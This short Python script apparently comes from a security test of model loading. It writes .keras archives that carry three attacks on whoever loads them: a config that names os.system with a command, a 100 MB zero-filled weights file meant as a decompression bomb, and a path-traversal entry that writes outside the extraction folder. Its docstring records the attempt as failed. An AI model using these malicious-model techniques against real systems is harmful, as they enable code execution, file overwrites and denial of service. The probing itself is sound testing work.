"""Saves .keras archives with Lambda code, foreign modules and a bomb, and hands over their paths.

tries: malicious models, decompression bombs
outcome: failed, error in your code
"""

# %% 99-weigh
import json
import pathlib
import zipfile

layer = {"module": "os", "class_name": "system", "config": "touch @TEMP@/owned",
         "registered_name": None}
config = {"module": "keras", "class_name": "Sequential", "config": {"layers": [layer]}}
for name in ("model.keras", "weigh.keras", "/tmp/model.keras"):
    with zipfile.ZipFile(name, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("config.json", json.dumps(config))
        archive.writestr("metadata.json", "{}")
        archive.writestr("model.weights.h5", bytes(100_000_000))
        archive.writestr("../../../../../../@TEMP@/owned", "x")


def weigh(values):
    return pathlib.Path("model.keras")
